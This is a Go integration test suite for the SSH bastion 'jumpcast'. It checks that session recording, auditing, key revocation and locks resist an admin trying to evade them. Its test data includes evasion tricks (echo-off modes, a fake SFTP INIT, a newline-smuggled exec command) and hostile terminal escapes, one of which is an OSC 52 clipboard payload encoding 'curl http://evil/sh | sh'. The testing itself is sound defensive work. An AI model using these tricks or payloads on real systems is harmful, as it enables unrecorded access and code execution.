package main

// Issue 14's promises, tried as an admin who wants to act unrecorded or to
// keep access after it was cut, with stock clients against a default
// configuration of the real binary in front of a real sshd. Each test fails
// on a bastion that passes the client's terminal modes through, records no
// input without a PTY, parses only the "sftp" subsystem, leaks a recording
// per refused start, or keeps a revoked connection open.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"github.com/jumpcast/jumpcast/internal/recording"
	"github.com/jumpcast/jumpcast/internal/sshtest"
	"github.com/jumpcast/jumpcast/recorder/asciicast"
	"github.com/jumpcast/jumpcast/recorder/asciicast/asciicasttest"
)

// TestIntegrityPasswordChangeEndsWebLogins: setting a new password with the
// CLI ends the web logins made with the old one.
func TestIntegrityPasswordChangeEndsWebLogins(t *testing.T) {
	e := startE2E(t)
	const oldPW, newPW = "old passphrase 1234", "new passphrase 5678"
	if _, errOut, code := runJumpcast(t, oldPW+"\n", "auditor", "add", "carol", "-c", e.cfgPath); code != 0 {
		t.Fatalf("auditor add: %s", errOut)
	}
	web := webLogin(t, e.srv.WebAddr, "carol", oldPW)
	if code := webStatus(t, web, "http://"+e.srv.WebAddr+"/api/recordings"); code != http.StatusOK {
		t.Fatalf("logged in, /api/recordings: %d", code)
	}
	// The server holds the database: the CLI writes through the admin
	// socket, which cannot reach the site's logins.
	if out, errOut, code := runJumpcast(t, newPW+"\n", "auditor", "add", "carol", "-c", e.cfgPath); code != 0 || !strings.Contains(out, "account carol saved") {
		t.Fatalf("auditor add (new password): exit %d %q %s", code, out, errOut)
	}
	if code := webStatus(t, web, "http://"+e.srv.WebAddr+"/api/recordings"); code != http.StatusUnauthorized {
		t.Errorf("the old password's web login after a password change: /api/recordings %d, want 401", code)
	}
	if code := webStatus(t, web, "http://"+e.srv.WebAddr+"/"); code != http.StatusFound {
		t.Errorf("the old password's web login after a password change: / %d, want 302 to /login", code)
	}
	if _, code := postWebLogin(t, e.srv.WebAddr, "carol", oldPW); code != http.StatusUnauthorized {
		t.Errorf("the old password signs in: %d, want 401", code)
	}
	again := webLogin(t, e.srv.WebAddr, "carol", newPW)
	if code := webStatus(t, again, "http://"+e.srv.WebAddr+"/api/recordings"); code != http.StatusOK {
		t.Errorf("logged in with the new password, /api/recordings: %d", code)
	}
}

// dialBastion logs in to the bastion with an x/crypto client as the e2e
// user's key, with login as the SSH user name (REMOTEUSER@TARGET).
func (e *e2e) dialBastion(tb testing.TB, login string) *gossh.Client {
	tb.Helper()
	c, err := gossh.Dial("tcp", e.srv.SSHAddr, &gossh.ClientConfig{
		User:            login,
		Auth:            []gossh.AuthMethod{gossh.PublicKeys(e.key.Signer)},
		HostKeyCallback: gossh.InsecureIgnoreHostKey(), // loopback test bastion
		Timeout:         10 * time.Second,
	})
	if err != nil {
		tb.Fatalf("dial bastion as %s: %v", login, err)
	}
	tb.Cleanup(func() { _ = c.Close() })
	return c
}

func (e *e2e) targetLogin() string { return e.sshd.User() + "@db1" }

// waitFor polls cond every 20 ms until it holds or d passes.
func waitFor(d time.Duration, cond func() bool) bool {
	for deadline := time.Now().Add(d); ; time.Sleep(20 * time.Millisecond) {
		if cond() {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
	}
}

// auditLines returns the audit trail as the CLI prints it.
func auditLines(tb testing.TB, cfgPath string, args ...string) string {
	tb.Helper()
	out, errOut, code := runJumpcast(tb.(*testing.T), "", append([]string{"audit", "-c", cfgPath}, args...)...)
	if code != 0 {
		tb.Fatalf("audit: exit %d: %s", code, errOut)
	}
	return out
}

// castEvents decodes every event of a recording file.
func castEvents(tb testing.TB, path string) []asciicast.Event {
	tb.Helper()
	_, evs := asciicasttest.ReadAll(tb, bytes.NewReader(asciicasttest.ReadFile(tb, path)))
	return evs
}

// TestIntegrityEchoStaysOn: a client that asks for ECHO 0 in its pty-req
// (what OpenSSH sends after `stty -echo` in the admin's own terminal) does
// not keep its commands out of the recording: the bastion sends the target
// its own terminal modes, and the request is an audit event.
func TestIntegrityEchoStaysOn(t *testing.T) {
	e := startE2E(t)
	c := e.dialBastion(t, e.targetLogin())
	sess, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	var out sshtest.SyncBuffer
	sess.Stdout, sess.Stderr = &out, &out
	stdin, err := sess.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	modes := gossh.TerminalModes{gossh.ECHO: 0, gossh.TTY_OP_ISPEED: 38400, gossh.TTY_OP_OSPEED: 38400}
	if err := sess.RequestPty("xterm", 24, 80, modes); err != nil {
		t.Fatal(err)
	}
	if err := sess.Shell(); err != nil {
		t.Fatal(err)
	}
	secret := filepath.Join(t.TempDir(), "unrecorded-marker")
	fmt.Fprintf(stdin, "touch %s; echo done-$((6*7))\n", secret)
	if !waitFor(15*time.Second, func() bool { return strings.Contains(out.String(), "done-42") }) {
		t.Fatalf("the shell did not answer: %q", out.String())
	}
	fmt.Fprint(stdin, "exit\n")
	_ = sess.Wait()
	if _, err := os.Stat(secret); err != nil {
		t.Fatalf("the command did not run on the target: %v", err)
	}
	recs := waitRecordings(t, e.cfgPath, 1, func(r recording.Meta) bool { return r.Status == recording.StatusFinished })
	_, seen := castOutput(t, e.castPath(recs[0]))
	if !strings.Contains(seen, "touch "+secret) {
		t.Errorf("the recording lacks the typed command %q; it shows:\n%q", "touch "+secret, seen)
	}
	if in := asciicasttest.Joined(castEvents(t, e.castPath(recs[0])), "i"); in != "" {
		t.Errorf("a PTY session's input recorded by default: %q", in)
	}
	a := auditLines(t, e.cfgPath, "--kind", "session")
	if !strings.Contains(a, `"outcome":"overridden"`) || !strings.Contains(a, `"reason":"client asked for echo off"`) {
		t.Errorf("no audit event says the client asked for echo off:\n%s", a)
	}
}

// TestIntegrityInputWithoutPTY: a shell fed on stdin without a PTY
// (`ssh -T`, `ssh … bash < script`) has that input in its recording by
// default, as "i" events.
func TestIntegrityInputWithoutPTY(t *testing.T) {
	e := startE2E(t)
	out, errOut, code := e.ssh(t, "echo piped-$((6*7))\n", "-T", e.login())
	if code != 0 || !strings.Contains(out, "piped-42") {
		t.Fatalf("ssh -T: exit %d, %q %q", code, out, errOut)
	}
	out, errOut, code = e.ssh(t, "echo scripted-$((7*7))\n", e.login(), "bash")
	if code != 0 || !strings.Contains(out, "scripted-49") {
		t.Fatalf("ssh … bash: exit %d, %q %q", code, out, errOut)
	}
	recs := waitRecordings(t, e.cfgPath, 2, func(r recording.Meta) bool { return r.Status == recording.StatusFinished })
	want := map[string]string{"": "echo piped-$((6*7))", "bash": "echo scripted-$((7*7))"}
	for _, r := range recs {
		in := asciicasttest.Joined(castEvents(t, e.castPath(r)), "i")
		if w, ok := want[r.Command]; !ok || !strings.Contains(in, w) {
			t.Errorf("recording %s (command %q): input %q, want it to contain %q", r.ID, r.Command, in, w)
		}
	}
}

// TestIntegritySFTPWhateverStartedIt: sftp started as an exec of the
// sftp-server binary is recorded as file operations, like the sftp
// subsystem; an SFTP INIT sent to a shell does not keep the commands that
// follow out of the recording; a subsystem name with a NUL (which sshd
// cuts) is refused with one line, exit 255, an audit event and no
// recording.
func TestIntegritySFTPWhateverStartedIt(t *testing.T) {
	const sftpServer = "/usr/lib/openssh/sftp-server"
	sshtest.RequireBinary(t, "/usr/bin/sftp", sftpServer)
	e := startE2E(t)
	dir := t.TempDir()
	local := filepath.Join(dir, "local.txt")
	if err := os.WriteFile(local, []byte("payload\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	remote := filepath.Join(dir, "uploaded-by-exec-sftp.txt")
	batch := filepath.Join(dir, "batch")
	if err := os.WriteFile(batch, []byte("put "+local+" "+remote+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	out, errOut, code, err := sshtest.Run(ctx, nil, "sftp", "-F", e.client.ConfigPath, "-P", e.srv.SSHPort,
		"-s", sftpServer, "-b", batch, e.login())
	if err != nil || code != 0 {
		t.Fatalf("sftp -s %s: exit %d %v: %s %s", sftpServer, code, err, out, errOut)
	}
	if _, err := os.Stat(remote); err != nil {
		t.Fatalf("sftp did not upload: %v", err)
	}
	recs := waitRecordings(t, e.cfgPath, 1, func(r recording.Meta) bool { return r.Status == recording.StatusFinished })
	evs := castEvents(t, e.castPath(recs[0]))
	if marks := asciicasttest.Joined(evs, "m"); !strings.Contains(marks, "uploaded-by-exec-sftp.txt") || strings.Contains(marks, "[sftp ends") {
		t.Errorf("the exec'd sftp session's recording names no file; markers: %q", marks)
	}
	if o := asciicasttest.Joined(evs, "o"); o != "" {
		t.Errorf("the exec'd sftp session's data recorded as output: %q", o)
	}

	// A fake INIT, then commands, to a shell: they are recorded.
	c := e.dialBastion(t, e.targetLogin())
	sess, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	var shellOut sshtest.SyncBuffer
	sess.Stdout, sess.Stderr = &shellOut, &shellOut
	stdin, err := sess.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := sess.Start("bash"); err != nil {
		t.Fatal(err)
	}
	hidden := filepath.Join(dir, "made-after-a-fake-init")
	if _, err := stdin.Write([]byte{0, 0, 0, 5, 1, 0, 0, 0, 3}); err != nil { // SSH_FXP_INIT, version 3
		t.Fatal(err)
	}
	fmt.Fprintf(stdin, "\ntouch %s; echo fake-init-$((5*5))\n", hidden)
	if !waitFor(15*time.Second, func() bool { return strings.Contains(shellOut.String(), "fake-init-25") }) {
		t.Fatalf("bash did not answer: %q", shellOut.String())
	}
	_ = stdin.Close()
	_ = sess.Wait()
	recs = waitRecordings(t, e.cfgPath, 2, func(r recording.Meta) bool { return r.Status == recording.StatusFinished })
	for _, r := range recs {
		if r.Command != "bash" {
			continue
		}
		evs := castEvents(t, e.castPath(r))
		if in := asciicasttest.Joined(evs, "i"); !strings.Contains(in, "touch "+hidden) {
			t.Errorf("the commands after a fake INIT are not in the recording; input %q, markers %q", in, asciicasttest.Joined(evs, "m"))
		}
		if o := asciicasttest.Joined(evs, "o"); !strings.Contains(o, "fake-init-25") {
			t.Errorf("the output after a fake INIT is not in the recording: %q", o)
		}
	}

	for _, req := range []struct{ typ, value, want string }{
		{"subsystem", "sftp\x00ignored", "jumpcast: subsystem name refused: it holds a control character (U+0000 at byte 4)\n"},
		{"exec", "true\ntouch " + hidden + "-2", "jumpcast: exec command refused: it holds a control character (U+000A at byte 4)\n"},
	} {
		stderr, status := startRequest(t, c, req.typ, req.value)
		if stderr != req.want || status != 255 {
			t.Errorf("%s %q: exit %d, stderr %q; want 255, %q", req.typ, req.value, status, stderr, req.want)
		}
	}
	if _, err := os.Stat(hidden + "-2"); err == nil {
		t.Error("an exec command with a line break ran")
	}
	if a := auditLines(t, e.cfgPath, "--kind", "session"); !strings.Contains(a, `"reason":"control character in the request"`) {
		t.Errorf("the refusal is not audited:\n%s", a)
	}
	if all := listRecordings(t, e.cfgPath); len(all) != 2 {
		t.Errorf("%d recordings, want 2: the refused subsystem made one", len(all))
	}
}

// startRequest opens a session channel on c, sends a start request of
// type typ ("exec", "subsystem") with value, and returns what the channel
// wrote on stderr and its exit status (-1 for none) once it closed.
func startRequest(tb testing.TB, c *gossh.Client, typ, value string) (string, int) {
	tb.Helper()
	ch, reqs, err := c.OpenChannel("session", nil)
	if err != nil {
		tb.Fatal(err)
	}
	defer func() { _ = ch.Close() }()
	status := make(chan int, 1)
	go func() { // owner: startRequest; ends when the channel closes
		st := -1
		for r := range reqs {
			if r.Type == "exit-status" && len(r.Payload) == 4 {
				st = int(r.Payload[0])<<24 | int(r.Payload[1])<<16 | int(r.Payload[2])<<8 | int(r.Payload[3])
			}
		}
		status <- st
	}()
	if _, err := ch.SendRequest(typ, true, gossh.Marshal(struct{ Value string }{value})); err != nil {
		tb.Fatalf("%s request: %v", typ, err)
	}
	go func() { _, _ = io.Copy(io.Discard, ch) }() // owner: startRequest; ends at EOF
	stderr, _ := io.ReadAll(ch.Stderr())
	select {
	case st := <-status:
		return string(stderr), st
	case <-time.After(10 * time.Second):
		tb.Fatalf("%s %q: the channel did not close", typ, value)
		return "", 0
	}
}

// TestIntegrityRefusedStartsLeaveNothing: 10,000 start requests the target
// refuses (1,000 on each of 10 channels of one connection) leave no active
// recording, no open file and no goroutine behind, another admin is
// unaffected, and the 10th channel's refusal closes the connection
// (refused starts are bounded per connection: each leaves a recording).
func TestIntegrityRefusedStartsLeaveNothing(t *testing.T) {
	e, ops := startMetricsE2E(t)
	metricsURL := "http://" + ops + "/metrics"
	before, _ := scrapeMetrics(t, metricsURL, "")

	c := e.dialBastion(t, e.targetLogin())
	start := time.Now()
	for ch := 0; ch < 10; ch++ {
		sess, err := c.NewSession()
		if err != nil {
			t.Fatalf("channel %d: %v", ch, err)
		}
		for i := 0; i < 1000; i++ {
			if err := sess.RequestSubsystem(fmt.Sprintf("nosuch%d", i)); err == nil {
				t.Fatalf("subsystem nosuch%d accepted", i)
			}
		}
		_ = sess.Close()
	}
	if !sshtest.ConnEnds(c, 2*time.Second) {
		t.Error("the connection is open 2 s after its 10th refused start")
	}
	during, _ := scrapeMetrics(t, metricsURL, "")
	t.Logf("10,000 refused starts in %v; fds %v -> %v, goroutines %v -> %v, RSS %.1f -> %.1f MiB",
		time.Since(start).Round(time.Millisecond), before["process_open_fds"], during["process_open_fds"],
		before["go_goroutines"], during["go_goroutines"],
		before["process_resident_memory_bytes"]/(1<<20), during["process_resident_memory_bytes"]/(1<<20))
	if d := during["process_open_fds"] - before["process_open_fds"]; d > 20 {
		t.Errorf("open files grew by %v with one connection open", d)
	}
	if d := during["go_goroutines"] - before["go_goroutines"]; d > 40 {
		t.Errorf("goroutines grew by %v with one connection open", d)
	}

	if out, errOut, code := e.ssh(t, "", e.login(), "echo other-admin-ok"); code != 0 || !strings.Contains(out, "other-admin-ok") {
		t.Errorf("another admin's session: exit %d, %q %q", code, out, errOut)
	}
	if !waitFor(10*time.Second, func() bool {
		return len(listRecordings(t, e.cfgPath, "--status", "active")) == 0
	}) {
		t.Errorf("active recordings left after the connection closed: %d", len(listRecordings(t, e.cfgPath, "--status", "active")))
	}
	if all := listRecordings(t, e.cfgPath, "--limit", "1000"); len(all) > 11 {
		t.Errorf("%d recordings for 10 refused channels and one session", len(all))
	}
	// Each channel's one refused start is an audit event; the requests
	// after it never reached the target.
	if n := strings.Count(auditLines(t, e.cfgPath, "--kind", "session"), `"reason":"target refused the session"`); n != 10 {
		t.Errorf("%d refused starts audited, want 10 (one per channel)", n)
	}
	if n := strings.Count(auditLines(t, e.cfgPath, "--kind", "connection"), `"reason":"too many refused session starts"`); n != 1 {
		t.Errorf("%d connection closings for too many refused starts audited, want 1", n)
	}
	after, _ := scrapeMetrics(t, metricsURL, "")
	t.Logf("after the connection closed: fds %v, goroutines %v, RSS %.1f MiB", after["process_open_fds"],
		after["go_goroutines"], after["process_resident_memory_bytes"]/(1<<20))
	if d := after["process_open_fds"] - before["process_open_fds"]; d > 10 {
		t.Errorf("open files grew by %v after everything closed", d)
	}
}

// addSSHConfigLine inserts line (indented under ssh:) into the config file.
func addSSHConfigLine(tb testing.TB, cfgPath, line string) {
	tb.Helper()
	addConfigLine(tb, cfgPath, "ssh", line)
}

// addWebConfigLine inserts line (indented under web:) into the config file.
func addWebConfigLine(tb testing.TB, cfgPath, line string) {
	tb.Helper()
	addConfigLine(tb, cfgPath, "web", line)
}

// addConfigSection appends a top-level section (YAML text) to the config.
func addConfigSection(tb testing.TB, cfgPath, section string) {
	tb.Helper()
	b, err := os.ReadFile(cfgPath)
	if err != nil {
		tb.Fatal(err)
	}
	if err := os.WriteFile(cfgPath, append(b, []byte("\n"+section)...), 0o600); err != nil {
		tb.Fatal(err)
	}
}

func addConfigLine(tb testing.TB, cfgPath, section, line string) {
	tb.Helper()
	b, err := os.ReadFile(cfgPath)
	if err != nil {
		tb.Fatal(err)
	}
	head := "\n" + section + ":\n"
	if !strings.Contains(string(b), head) {
		tb.Fatalf("config has no %s: section", section)
	}
	s := strings.Replace(string(b), head, head+"  "+line+"\n", 1)
	if err := os.WriteFile(cfgPath, []byte(s), 0o600); err != nil {
		tb.Fatal(err)
	}
}

// liveSession starts `sleep 60` over c and returns its stderr and a channel
// closed when the session (or the connection) ends.
func liveSession(tb testing.TB, c *gossh.Client) (*sshtest.SyncBuffer, <-chan struct{}) {
	tb.Helper()
	sess, err := c.NewSession()
	if err != nil {
		tb.Fatal(err)
	}
	var stderr sshtest.SyncBuffer
	sess.Stderr = &stderr
	if err := sess.Start("sleep 60"); err != nil {
		tb.Fatal(err)
	}
	done := make(chan struct{})
	go func() { // owner: the test; ends with the session
		_ = sess.Wait()
		close(done)
	}()
	return &stderr, done
}

// TestIntegrityReloadCutsRevokedKey: a reload that revokes the key of an
// open connection closes it at once, with a line on the running session's
// terminal and an audit event; new commands over it are impossible.
func TestIntegrityReloadCutsRevokedKey(t *testing.T) {
	e := startE2E(t)
	c := e.dialBastion(t, e.targetLogin())
	stderr, done := liveSession(t, c)
	// ssh.revoked_keys holds the keys themselves (authorized_keys lines).
	addSSHConfigLine(t, e.cfgPath, fmt.Sprintf("revoked_keys: [%q]", e.key.AuthorizedLine))
	if err := e.srv.Cmd.Process.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	if !sshtest.ConnEnds(c, 3*time.Second) {
		t.Fatalf("the revoked key's connection is still open 3s after the reload")
	}
	<-done
	if !strings.Contains(stderr.String(), "jumpcast: ") {
		t.Errorf("the running session was told nothing: %q", stderr.String())
	}
	if _, errOut, code := e.ssh(t, "", e.login(), "true"); code != 255 {
		t.Errorf("a revoked key logged in again: exit %d %q", code, errOut)
	}
	if a := auditLines(t, e.cfgPath); !strings.Contains(a, "revoked") {
		t.Errorf("no audit event names the revocation:\n%s", a)
	}
}

// TestIntegrityLocks: `jumpcast lock` closes a user's open connections
// within a second and refuses new ones with the reason; locks are listed,
// survive a restart, and are lifted with `lock rm`.
func TestIntegrityLocks(t *testing.T) {
	e := startE2E(t)
	c := e.dialBastion(t, e.targetLogin())
	stderr, done := liveSession(t, c)

	out, errOut, code := runJumpcast(t, "", "lock", "alice", "--reason", "incident 42", "-c", e.cfgPath)
	if code != 0 {
		t.Fatalf("lock alice: exit %d %q %q", code, out, errOut)
	}
	if !sshtest.ConnEnds(c, 1500*time.Millisecond) {
		t.Fatalf("alice's connection is still open 1.5s after the lock")
	}
	<-done
	if !strings.Contains(stderr.String(), "incident 42") {
		t.Errorf("the running session was not told why: %q", stderr.String())
	}
	if _, errOut, code := e.ssh(t, "", e.login(), "true"); code != 255 || !strings.Contains(errOut, "incident 42") {
		t.Errorf("a locked user's login: exit %d %q, want 255 and the reason", code, errOut)
	}

	// By target, across a restart.
	if out, errOut, code := runJumpcast(t, "", "lock", "--target", "db1", "--for", "2h", "--reason", "maintenance", "-c", e.cfgPath); code != 0 {
		t.Fatalf("lock --target: exit %d %q %q", code, out, errOut)
	}
	e.srv.Stop(t)
	e.srv = startServer(t, e.cfgPath)
	ls, _, code := runJumpcast(t, "", "lock", "ls", "-c", e.cfgPath)
	if code != 0 || !strings.Contains(ls, "incident 42") || !strings.Contains(ls, "maintenance") {
		t.Fatalf("lock ls after a restart: exit %d\n%s", code, ls)
	}
	for _, line := range strings.Split(strings.TrimSpace(ls), "\n") {
		f := strings.Fields(line)
		if len(f) == 0 || !(strings.Contains(line, "incident 42") || strings.Contains(line, "maintenance")) {
			continue
		}
		if out, errOut, code := runJumpcast(t, "", "lock", "rm", f[0], "-c", e.cfgPath); code != 0 {
			t.Fatalf("lock rm %s: exit %d %q %q", f[0], code, out, errOut)
		}
	}
	if out, errOut, code := e.ssh(t, "", e.login(), "echo unlocked"); code != 0 || !strings.Contains(out, "unlocked") {
		t.Errorf("after lock rm: exit %d %q %q", code, out, errOut)
	}
	a := auditLines(t, e.cfgPath)
	for _, want := range []string{"incident 42", "maintenance"} {
		if !strings.Contains(a, want) {
			t.Errorf("no audit event for the lock %q:\n%s", want, a)
		}
	}
}

// TestIntegrityEndWholeConnection: ending one session leaves a
// ControlMaster-style connection free to run the next command; `recordings
// end --connection` ends every session on it and closes it.
func TestIntegrityEndWholeConnection(t *testing.T) {
	e := startE2E(t)
	c := e.dialBastion(t, e.targetLogin())
	firstErr, firstDone := liveSession(t, c)
	secondErr, secondDone := liveSession(t, c)
	recs := waitRecordings(t, e.cfgPath, 2, func(r recording.Meta) bool { return r.Status == recording.StatusActive })
	if out, errOut, code := runJumpcast(t, "", "recordings", "end", recs[0].ID, "--connection", "--reason", "incident 42", "-c", e.cfgPath); code != 0 {
		t.Fatalf("recordings end --connection: exit %d %q %q", code, out, errOut)
	}
	if !sshtest.ConnEnds(c, 1500*time.Millisecond) {
		t.Fatal("the connection is still open 1.5s after it was ended")
	}
	<-firstDone
	<-secondDone
	const want = "jumpcast: connection ended by an operator on the bastion: incident 42"
	for _, stderr := range []*sshtest.SyncBuffer{firstErr, secondErr} {
		if !strings.Contains(stderr.String(), want) {
			t.Errorf("a session on the connection saw %q, want %q", stderr.String(), want)
		}
	}
	if _, err := c.NewSession(); err == nil {
		t.Error("a new command ran over the ended connection")
	}
	if a := auditLines(t, e.cfgPath, "--kind", "connection"); !strings.Contains(a, `"outcome":"terminated"`) || !strings.Contains(a, "incident 42") {
		t.Errorf("no connection/terminated event:\n%s", a)
	}
}

// droppedFive matches play's note that it dropped the 5 hostile sequences.
var droppedFive = regexp.MustCompile(`(?i)\b5\b[^\n]*dropped|dropped[^\n]*\b5\b`)

// TestIntegrityPlayProtectsTheAuditor: `jumpcast play` to a terminal drops
// what a recorded session could do to the auditor's terminal (clipboard,
// title, queries whose answers would be typed into the auditor's shell) and
// says how many it dropped, while what draws the screen passes; a pipe is
// filtered too; --raw keeps everything for a file or a pipe and is refused
// on a terminal.
func TestIntegrityPlayProtectsTheAuditor(t *testing.T) {
	sshtest.RequireBinary(t, "/usr/bin/script")
	hostile := []string{
		"\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo\x07", // OSC 52: set the clipboard
		"\x1b]0;pwned title\x07",                         // OSC 0: window title
		"\x1b[6n",                                        // cursor position query
		"\x1b[c",                                         // primary device attributes query
		"\x1bP$qm\x1b\\",                                 // DECRQSS
	}
	const drawing = "\x1b[1;31mred\x1b[0m" // SGR: what draws the screen passes
	cast := filepath.Join(t.TempDir(), "hostile.cast")
	var b bytes.Buffer
	b.WriteString(`{"version":2,"width":80,"height":24}` + "\n")
	b.WriteString(`[0.1,"o","before\r\n"]` + "\n")
	for i, h := range hostile {
		data, _ := json.Marshal(h)
		fmt.Fprintf(&b, "[0.%d,\"o\",%s]\n", i+2, data)
	}
	data, _ := json.Marshal(drawing)
	fmt.Fprintf(&b, "[0.8,\"o\",%s]\n", data)
	b.WriteString(`[0.9,"o","after\r\n"]` + "\n")
	if err := os.WriteFile(cast, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	onTerminal := func(args string) string {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		// script(1) gives play a terminal as its stdout and stderr and
		// copies what it wrote to ours.
		cmd := exec.CommandContext(ctx, "script", "-qec", self+" play "+args, "/dev/null")
		cmd.Env = append(os.Environ(), "JUMPCAST_E2E_MAIN=1")
		tty, _ := cmd.CombinedOutput()
		return string(tty)
	}
	tty := onTerminal("--speed 10 " + cast)
	if !strings.Contains(tty, "before") || !strings.Contains(tty, "after") || !strings.Contains(tty, drawing) {
		t.Fatalf("play did not show the recording: %q", tty)
	}
	for _, h := range hostile {
		if strings.Contains(tty, h) {
			t.Errorf("play wrote %q to the auditor's terminal", h)
		}
	}
	if !droppedFive.MatchString(tty) {
		t.Errorf("play did not say it dropped 5 sequences: %q", tty)
	}
	if tty := onTerminal("--raw " + cast); !strings.Contains(tty, "not to this terminal") || strings.Contains(tty, "before") {
		t.Errorf("play --raw on a terminal was not refused: %q", tty)
	}

	piped, errOut, code := runJumpcast(t, "", "play", "--speed", "10", cast)
	if code != 0 || !strings.Contains(piped, "before") || !strings.Contains(piped, drawing) || !droppedFive.MatchString(errOut) {
		t.Errorf("play into a pipe: exit %d, %q, stderr %q", code, piped, errOut)
	}
	for _, h := range hostile {
		if strings.Contains(piped, h) {
			t.Errorf("play wrote %q into a pipe", h)
		}
	}
	raw, errOut, code := runJumpcast(t, "", "play", "--raw", "--speed", "10", cast)
	if code != 0 || errOut != "" {
		t.Fatalf("play --raw: exit %d: %s", code, errOut)
	}
	for _, h := range hostile {
		if !strings.Contains(raw, h) {
			t.Errorf("play --raw lost %q", h)
		}
	}
}

// TestIntegrityLongCommandIsCut: a 120 KB exec command, sent by the real
// OpenSSH client, runs and is recorded whole in the cast's header, while
// the index row, the log line, the audit event and the web pages keep at
// most recording.MaxCommandLen bytes of it and say that it was cut.
func TestIntegrityLongCommandIsCut(t *testing.T) {
	e := startE2E(t)
	command := "echo long-command-ran #" + strings.Repeat("x", 120<<10)
	out, errOut, code := e.ssh(t, "", e.login(), command)
	if code != 0 || !strings.Contains(out, "long-command-ran") {
		t.Fatalf("ssh with a %d-byte command: exit %d, %q %s", len(command), code, out, errOut)
	}
	recs := waitRecordings(t, e.cfgPath, 1, func(r recording.Meta) bool { return r.Status == recording.StatusFinished })
	row := recs[0]
	if len(row.Command) > recording.MaxCommandLen || !strings.HasPrefix(command, row.Command) || row.CommandLen != len(command) {
		t.Errorf("index row: command of %d bytes, command_len %d; want at most %d bytes of the command and %d",
			len(row.Command), row.CommandLen, recording.MaxCommandLen, len(command))
	}
	if h, _ := castOutput(t, e.castPath(row)); h.Command != command {
		t.Errorf("the cast's header holds %d bytes of the %d-byte command", len(h.Command), len(command))
	}

	var started map[string]any
	for _, l := range logLines(t, e.srv) {
		if l["msg"] == "session started" && l["session_id"] == row.ID {
			started = l
		}
	}
	if c, _ := started["command"].(string); len(c) > recording.MaxCommandLen || started["command_len"] != float64(len(command)) {
		t.Errorf("log line: command of %d bytes, command_len %v", len(c), started["command_len"])
	}

	trail := auditLines(t, e.cfgPath, "--kind", "session")
	if len(trail) > 4*recording.MaxCommandLen || !strings.Contains(trail, fmt.Sprintf(`"command_len":"%d"`, len(command))) {
		t.Errorf("audit trail of %d bytes, without command_len %d", len(trail), len(command))
	}

	const pw = "auditor passphrase 1234"
	if _, errOut, code := runJumpcast(t, pw+"\n", "auditor", "add", "carol", "-c", e.cfgPath); code != 0 {
		t.Fatalf("auditor add: %s", errOut)
	}
	web := webLogin(t, e.srv.WebAddr, "carol", pw)
	note := fmt.Sprintf("… (cut, %d bytes in the recording)", len(command))
	for _, page := range []string{"/", "/recordings/" + row.ID} {
		res, err := web.Get("http://" + e.srv.WebAddr + page)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		_ = res.Body.Close()
		if res.StatusCode != http.StatusOK || !strings.Contains(string(body), note) || len(body) > len(command) {
			t.Errorf("%s: %d, %d bytes, cut note %v", page, res.StatusCode, len(body), strings.Contains(string(body), note))
		}
	}
}
